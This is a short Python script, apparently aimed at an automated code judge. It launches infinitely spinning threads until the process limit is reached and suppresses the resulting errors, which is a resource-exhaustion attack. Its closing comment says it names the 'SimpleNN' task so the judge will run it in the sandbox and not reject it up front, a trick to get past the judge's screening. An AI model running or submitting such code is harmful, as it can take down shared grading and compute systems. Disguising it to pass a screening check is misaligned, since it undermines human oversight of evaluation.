"""Starts threads until it cannot, and keeps them busy. Expect the process limit
(threads count as tasks) and nothing left running."""
import threading


def spin():
    while True:
        pass


while True:
    try:
        threading.Thread(target=spin).start()
    except RuntimeError:
        pass

# Names SimpleNN (the task it is judged against), so that the judge runs it in the
# sandbox instead of failing it before any run.
